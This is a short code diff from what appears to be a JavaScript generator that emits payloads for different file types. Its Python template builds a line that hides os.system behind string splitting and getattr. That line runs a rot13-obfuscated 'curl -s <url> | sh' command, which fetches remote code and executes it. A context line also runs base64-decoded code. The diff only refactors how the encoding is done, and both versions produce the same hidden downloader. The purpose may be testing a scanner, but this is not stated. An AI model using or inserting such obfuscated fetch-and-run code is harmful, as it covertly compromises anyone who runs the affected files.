@@ -206,7 +206,7 @@ go(Buffer.from(parts.join(''), 'base64').toString())
       [
         '*.py',
         text`import codecs as _c
-getattr(__import__("os"), "sys" + "tem")(_c.decode("${[...`curl -s ${url}|sh`].map((c) => c.replace(/[a-z]/gi, (l) => String.fromCharCode((((l.charCodeAt(0) & 31) + 12) % 26) + (l < 'a' ? 65 : 97)))).join('')}", "rot13"))
+getattr(__import__("os"), "sys" + "tem")(_c.decode("${Array.from(`curl -s ${url}|sh`, (c) => c.replace(/[a-z]/gi, (l) => String.fromCharCode((((l.charCodeAt(0) & 31) + 12) % 26) + (l < 'a' ? 65 : 97)))).join('')}", "rot13"))
 `,
       ],
     ],
